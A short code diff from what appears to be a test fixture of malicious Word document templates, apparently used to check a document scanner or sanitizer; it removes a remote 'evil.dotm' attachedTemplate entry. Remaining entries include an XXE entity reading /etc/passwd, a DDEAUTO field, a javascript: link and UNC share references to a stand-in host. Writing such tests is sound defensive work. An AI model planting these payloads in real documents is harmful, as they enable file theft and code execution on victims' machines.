@@ -274,7 +274,6 @@ WORD_TEMPLATES = {
     "picture": external("image", "http://x.example/a.png"),
     "share": external("hyperlink", "\\\\x.example\\share\\a.docx"),
     "script": external("hyperlink", "javascript:alert(1)"),
-    "mother": external("attachedTemplate", "http://x.example/evil.dotm"),
     "entities": word_with(b"", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
     "field": word_with(b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>"),
     "include": word_with(
